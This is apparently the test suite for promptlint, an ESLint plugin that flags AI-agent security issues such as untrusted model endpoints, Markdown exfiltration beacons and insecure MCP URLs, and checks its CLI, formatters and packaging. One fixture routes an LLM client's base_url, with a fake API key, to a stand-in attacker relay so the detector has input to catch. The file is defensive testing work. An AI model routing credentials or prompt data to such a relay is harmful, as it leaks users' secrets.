/**
 * Adoption: the README's `eslint.config.js` over a fixture project with the `ESLint` class; @eslint/markdown users
 * keep their Markdown rules; `recommended` before and after a typed typescript-eslint config and in a
 * JavaScript-only project; CLI and ESLint agree on one tree; ESLint 9; the eslint CLI's --cache, --stdin and
 * -f json, and the plugin's formatters.
 */
import { after, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { ESLint } from 'eslint';
import { ESLint as ESLint9 } from 'eslint-v9';
import tseslint from 'typescript-eslint';
import { Ajv } from 'ajv';
import { lintFiles } from '@promptlint/core';
import promptlint from 'eslint-plugin-promptlint';

const root = fileURLToPath(new URL('..', import.meta.url));
const fixture = (name: string) => join(root, 'test', 'fixtures', name);
const PROJECT = fixture('eslint-project');

type Row = [string, string | null, number, number, number | undefined, number | undefined];

function rows(results: ESLint.LintResult[], cwd: string, only?: (ruleId: string | null) => boolean): Row[] {
  const out: Row[] = [];
  for (const r of results) for (const m of r.messages) if (!only || only(m.ruleId)) out.push([relative(cwd, r.filePath).split('\\').join('/'), m.ruleId, m.line, m.column, m.endLine, m.endColumn]);
  return out.sort((a, b) => a.join().localeCompare(b.join()));
}

const promptlintOnly = (id: string | null) => id === null || id.startsWith('promptlint/');

/** What the README's config finds in the fixture project. */
const EXPECTED: Row[] = [
  ['.vscode/mcp.json', 'promptlint/insecure-mcp-server-url', 3, 47, 3, 69],
  ['agents/researcher.yaml', 'promptlint/untrusted-model-endpoint', 4, 21, 4, 47],
  ['hub/research.hub.json', 'promptlint/untrusted-model-endpoint', 53, 39, 53, 59],
  ['prompts/support.prompt.md', 'promptlint/markdown-exfil-beacon', 5, 11, 5, 72],
  ['src/agent.ts', 'promptlint/langchain-hub-include-model', 11, 58, 11, 76],
  ['src/agent.ts', 'promptlint/langchain-hub-unpinned-prompt', 10, 32, 10, 46],
  ['src/agent.ts', 'promptlint/llm-client-untrusted-endpoint', 6, 54, 6, 80],
  ['src/agent.ts', 'promptlint/prompt-in-code', 16, 15, 16, 47],
  ['src/agent.ts', 'promptlint/prompt-in-code', 16, 72, 16, 108],
].sort((a, b) => a.join().localeCompare(b.join())) as Row[];

describe('the README config over a fixture project (ESLint class)', () => {
  it('finds the problems in TS code, prompt files, a hub export, agent YAML and an MCP config', async () => {
    const readme = readFileSync(join(root, 'README.md'), 'utf8');
    const config = readFileSync(join(PROJECT, 'eslint.config.js'), 'utf8').trim();
    assert.ok(readme.includes(config), 'the fixture uses exactly the README config');
    const eslint = new ESLint({ cwd: PROJECT });
    const results = await eslint.lintFiles(['.']);
    assert.deepEqual(rows(results, PROJECT, promptlintOnly), EXPECTED);
    // typescript-eslint's own rules still run on the TS files.
    assert.ok(results.some((r) => r.messages.some((m) => m.ruleId?.startsWith('@typescript-eslint/'))));
    // The clean file has no promptlint finding.
    const clean = results.find((r) => r.filePath.endsWith('clean.ts'));
    assert.ok(clean && !clean.messages.some((m) => promptlintOnly(m.ruleId)));
  });

  it('ESLint 9 gives the same findings', async () => {
    const eslint = new ESLint9({ cwd: PROJECT, overrideConfigFile: join(PROJECT, 'eslint.config.js') });
    const results = await eslint.lintFiles(['.']);
    assert.deepEqual(rows(results as never, PROJECT, promptlintOnly), EXPECTED);
  });
});

describe('@eslint/markdown users keep their Markdown rules', () => {
  it('README.md and docs/ keep markdown/* rules and get promptlint from configs.markdown', async () => {
    const cwd = fixture('eslint-markdown');
    const results = await new ESLint({ cwd }).lintFiles(['.']);
    assert.deepEqual(rows(results, cwd), ([
      ['AGENTS.md', 'promptlint/markdown-exfil-beacon', 3, 11, 3, 62],
      ['README.md', 'markdown/no-empty-links', 3, 5, 3, 17],
      ['README.md', 'promptlint/markdown-exfil-beacon', 5, 10, 5, 65],
      ['docs/guide.md', 'markdown/no-missing-atx-heading-space', 3, 1, 3, 3],
    ] as Row[]).sort((a, b) => a.join().localeCompare(b.join())));
  });
});

describe('recommended with typescript-eslint and without it', () => {
  const cwd = fixture('eslint-typed');
  // Typed rules need a TypeScript program: scope them to TS files, as typescript-eslint advises for mixed projects.
  const TS = ['**/*.ts', '**/*.tsx', '**/*.mts', '**/*.cts'];
  const typed = [
    ...tseslint.configs.recommendedTypeChecked.map((c) => ({ ...c, files: TS })),
    { files: TS, languageOptions: { parserOptions: { projectService: true, tsconfigRootDir: cwd } } },
  ];
  const expected = (rs: ESLint.LintResult[]) => {
    const r = rows(rs, cwd);
    // Typed rules ran (no-floating-promises needs type information) and so did ours, in code and in prompts.
    assert.ok(r.some((x) => x[1] === '@typescript-eslint/no-floating-promises'), JSON.stringify(r));
    assert.ok(r.some((x) => x[0] === 'src/chat.ts' && x[1] === 'promptlint/llm-client-untrusted-endpoint'));
    assert.ok(r.some((x) => x[0] === 'prompts/support.prompt.md' && x[1] === 'promptlint/markdown-exfil-beacon'));
    assert.ok(!rs.some((x) => x.messages.some((m) => m.fatal)), 'no parse errors');
    return r;
  };

  it('placed after a typed config', async () => {
    const eslint = new ESLint({ cwd, overrideConfigFile: true, overrideConfig: [...typed, ...promptlint.configs.recommended] as never });
    expected(await eslint.lintFiles(['.']));
  });

  it('placed before a typed config (its parser options survive)', async () => {
    const eslint = new ESLint({ cwd, overrideConfigFile: true, overrideConfig: [...promptlint.configs.recommended, ...typed] as never });
    expected(await eslint.lintFiles(['.']));
  });

  it('in a JavaScript-only project: JS and prompt files, and no .ts file is parsed', async () => {
    const js = fixture('eslint-js-only');
    const results = await new ESLint({ cwd: js }).lintFiles(['.']);
    assert.deepEqual(rows(results, js), [
      ['AGENTS.md', 'promptlint/markdown-exfil-beacon', 3, 11, 3, 62],
      ['src/app.js', 'promptlint/llm-client-untrusted-endpoint', 3, 54, 3, 80],
    ]);
    assert.ok(!results.some((r) => r.filePath.endsWith('.ts')));
  });
});

describe('CLI and ESLint agree', () => {
  it('on the prompt and config files of one tree', async () => {
    const cli = await lintFiles(['.'], { cwd: PROJECT, useConfigFile: false });
    const cliRows = cli.results
      .flatMap((r) => r.messages.map((m) => [relative(PROJECT, r.filePath).split('\\').join('/'), m.ruleId && `promptlint/${m.ruleId}`, m.line, m.column, m.endLine, m.endColumn, m.message]))
      .sort((a, b) => a.join().localeCompare(b.join()));
    const eslint = await new ESLint({ cwd: PROJECT }).lintFiles(['.']);
    const eslintRows = eslint
      .filter((r) => !/\.(?:ts|js)$/.test(r.filePath))
      .flatMap((r) => r.messages.map((m) => [relative(PROJECT, r.filePath).split('\\').join('/'), m.ruleId, m.line, m.column, m.endLine, m.endColumn, m.message]))
      .sort((a, b) => a.join().localeCompare(b.join()));
    assert.ok(cliRows.length >= 4);
    assert.deepEqual(eslintRows, cliRows);
  });
});

/** Run the eslint CLI (ESLint 10) with the workspace's TypeScript sources loadable. */
function eslintCli(args: string[], cwd: string, input?: string) {
  const bin = join(root, 'node_modules', 'eslint', 'bin', 'eslint.js');
  return spawnSync(process.execPath, ['--import', 'tsx', '--conditions=source', bin, ...args], { cwd, input, encoding: 'utf8', timeout: 120_000 });
}

describe('the eslint CLI', () => {
  it('-f json, --stdin --stdin-filename, exit codes', () => {
    const text = readFileSync(join(PROJECT, 'prompts', 'support.prompt.md'), 'utf8');
    const r = eslintCli(['--stdin', '--stdin-filename', 'prompts/x.prompt.md', '-f', 'json'], PROJECT, text);
    assert.equal(r.status, 1, r.stderr);
    const out = JSON.parse(r.stdout) as ESLint.LintResult[];
    assert.equal(out.length, 1);
    assert.deepEqual(out[0]!.messages.map((m) => [m.ruleId, m.line, m.column]), [['promptlint/markdown-exfil-beacon', 5, 11]]);
    // ESLint's own json formatter copies the file: that is why the plugin ships its own.
    assert.equal(typeof (out[0] as { source?: string }).source, 'string');
  });

  it('--max-warnings and --fix-dry-run', () => {
    const code = "import { pull } from 'langchain/hub';\nexport const p = pull('acme/summarize');\n";
    const warnOnly = eslintCli(['--stdin', '--stdin-filename', 'src/x.ts', '--rule', '@typescript-eslint/ban-ts-comment: off'], PROJECT, code);
    assert.equal(warnOnly.status, 0, warnOnly.stdout + warnOnly.stderr);
    assert.match(warnOnly.stdout, /promptlint\/langchain-hub-unpinned-prompt/);
    const capped = eslintCli(['--stdin', '--stdin-filename', 'src/x.ts', '--max-warnings', '0'], PROJECT, code);
    assert.equal(capped.status, 1);
    const hidden = '# A\n\nHello\u200b\u200b\u200b\u200bworld.\n';
    const fixed = eslintCli(['--stdin', '--stdin-filename', 'prompts/x.prompt.md', '--fix-dry-run', '-f', 'json'], PROJECT, hidden);
    const out = JSON.parse(fixed.stdout) as ESLint.LintResult[];
    assert.equal(out[0]!.output, '# A\n\nHelloworld.\n');
  });

  it('--cache: a second run reads the cache and reports the same', () => {
    const dir = mkdtempSync(join(tmpdir(), 'promptlint-eslint-cache-'));
    try {
      const cache = join(dir, '.eslintcache');
      const args = ['--cache', '--cache-location', cache, '-f', 'json', 'prompts', 'agents', '.vscode'];
      const first = eslintCli(args, PROJECT);
      const second = eslintCli(args, PROJECT);
      assert.equal(first.status, 1, first.stderr);
      assert.equal(second.status, 1, second.stderr);
      const strip = (s: string) => (JSON.parse(s) as ESLint.LintResult[]).map((r) => [r.filePath, r.messages.map((m) => [m.ruleId, m.line, m.column])]);
      assert.deepEqual(strip(second.stdout), strip(first.stdout));
      assert.ok(readFileSync(cache, 'utf8').length > 0);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('--report-unused-disable-directives from the command line', () => {
    const text = '# A\n\n<!-- promptlint-disable-next-line markdown-exfil-beacon -- old -->\nNothing.\n';
    const r = eslintCli(['--stdin', '--stdin-filename', 'prompts/x.prompt.md', '--report-unused-disable-directives', '-f', 'json'], PROJECT, text);
    const out = JSON.parse(r.stdout) as ESLint.LintResult[];
    assert.match(out[0]!.messages[0]!.message, /Unused eslint-disable directive/);
    assert.equal(out[0]!.messages[0]!.severity, 2);
  });

  it('the plugin formatters by path: JSON without source (schema-valid, masked) and SARIF', () => {
    const secret = 'sk-proj-' + 'Qm7'.repeat(40);
    const text = `llm:\n  model: gpt-4o\n  base_url: https://relay.attacker.example/v1\n  api_key: ${secret}\n`;
    const json = eslintCli(['--stdin', '--stdin-filename', 'agents/a.yaml', '-f', join(root, 'packages/eslint-plugin/src/formatters/json.ts')], PROJECT, text);
    assert.equal(json.status, 1, json.stderr);
    assert.ok(!json.stdout.includes(secret.slice(8, 50)), 'no secret in the report');
    const results = JSON.parse(json.stdout) as Record<string, unknown>[];
    assert.equal(results[0]!.source, undefined);
    const schema = JSON.parse(readFileSync(join(root, 'docs/schema/results-v1.schema.json'), 'utf8'));
    const ajv = new Ajv({ strict: false });
    assert.ok(ajv.validate(schema, results), JSON.stringify(ajv.errors));
    // Bare rule ids, as the CLI writes them.
    const m = (results[0]!.messages as Record<string, unknown>[]).find((x) => x.ruleId === 'untrusted-model-endpoint')!;
    assert.equal(m.category, 'exfiltration');
    assert.equal(m.securitySeverity, 'critical');

    const sarif = eslintCli(['--stdin', '--stdin-filename', 'agents/a.yaml', '-f', join(root, 'packages/eslint-plugin/src/formatters/sarif.ts')], PROJECT, text);
    const log = JSON.parse(sarif.stdout);
    assert.equal(log.version, '2.1.0');
    assert.equal(log.runs[0].columnKind, 'utf16CodeUnits');
    const res = log.runs[0].results.find((x: { ruleId: string }) => x.ruleId === 'untrusted-model-endpoint');
    assert.equal(res.properties['security-severity'], '9.5');
    assert.deepEqual(res.locations[0].physicalLocation.region, { startLine: 3, startColumn: 21, endLine: 3, endColumn: 43 });
    assert.equal(log.runs[0].tool.driver.rules[res.ruleIndex].helpUri, 'https://github.com/promptlint/promptlint/blob/main/docs/rules/untrusted-model-endpoint.md');
    assert.ok(!sarif.stdout.includes(secret.slice(8, 50)));
  });
});

describe('the built package', () => {
  it('bundles into dist/ and works in plain Node (no TypeScript loader), formatter included', () => {
    const pkg = join(root, 'packages', 'eslint-plugin');
    // A private output folder (other test runs in the same tree may rebuild dist/); under the package's
    // node_modules so the bundle resolves eslint and its dependencies as an installed copy would.
    const out = join(pkg, 'node_modules', '.cache', `promptlint-dist-${process.pid}`);
    const built = spawnSync(process.execPath, [join(pkg, 'scripts', 'build.mjs'), '--outdir', out], { cwd: pkg, encoding: 'utf8', timeout: 120_000 });
    assert.equal(built.status, 0, built.stderr);
    after(() => rmSync(out, { recursive: true, force: true }));
    const script = `
      import { ESLint } from 'eslint';
      const plugin = (await import(process.argv[1] + '/index.js')).default;
      const tseslint = (await import('typescript-eslint')).default;
      const config = [{ files: ['**/*.ts'], languageOptions: { parser: tseslint.parser } }, ...plugin.configs.recommended];
      const eslint = new ESLint({ cwd: process.argv[2], overrideConfigFile: true, overrideConfig: config });
      const results = await eslint.lintFiles(['prompts', 'agents', 'hub', '.vscode', 'src/agent.ts']);
      const fmt = await eslint.loadFormatter(process.argv[1] + '/formatters/json.js');
      process.stdout.write(await fmt.format(results));
    `;
    const r = spawnSync(process.execPath, ['--input-type=module', '-e', script, out, PROJECT], { cwd: root, encoding: 'utf8', timeout: 120_000 });
    assert.equal(r.status, 0, r.stderr);
    const report = JSON.parse(r.stdout) as { filePath: string; messages: { ruleId: string; line: number; column: number; securitySeverity?: string }[] }[];
    const got = report.flatMap((x) => x.messages.map((m) => [relative(PROJECT, x.filePath), m.ruleId, m.line, m.column])).sort((a, b) => a.join().localeCompare(b.join()));
    const want = EXPECTED.map((e) => [e[0], e[1]!.replace('promptlint/', ''), e[2], e[3]]).sort((a, b) => a.join().localeCompare(b.join()));
    assert.deepEqual(got, want);
    assert.ok(report.every((x) => x.messages.every((m) => m.securitySeverity)));
  });
});

describe('the packed eslint-plugin-promptlint tarball', () => {
  it('holds the bundle, no sources, no workspace protocol; ESLint is a peer', () => {
    const pkg = join(root, 'packages', 'eslint-plugin');
    const work = mkdtempSync(join(tmpdir(), 'promptlint-eslint-pack-'));
    try {
      const packed = spawnSync('pnpm', ['pack', '--pack-destination', work], { cwd: pkg, encoding: 'utf8', timeout: 120_000 });
      assert.equal(packed.status, 0, packed.stderr);
      const tarball = readdirSync(work).find((f) => f.endsWith('.tgz'))!;
      const listing = spawnSync('tar', ['tzf', join(work, tarball)], { encoding: 'utf8' }).stdout;
      for (const f of ['package/dist/index.js', 'package/dist/formatters/json.js', 'package/dist/formatters/sarif.js', 'package/README.md']) assert.ok(listing.includes(f), f);
      assert.ok(!listing.includes('package/src/'), 'no TypeScript sources');
      const manifest = JSON.parse(spawnSync('tar', ['xzf', join(work, tarball), '-O', 'package/package.json'], { encoding: 'utf8' }).stdout);
      assert.ok(!JSON.stringify(manifest).includes('workspace:'), 'no workspace: protocol');
      assert.ok(!JSON.stringify(manifest.exports).includes('src/'), 'no source-only export');
      assert.deepEqual(Object.keys(manifest.dependencies).sort(), ['@eslint/plugin-kit', '@typescript-eslint/utils']);
      assert.equal(manifest.peerDependencies.eslint, '^9.15.0 || ^10.2.0');
    } finally {
      rmSync(work, { recursive: true, force: true });
    }
  });
});

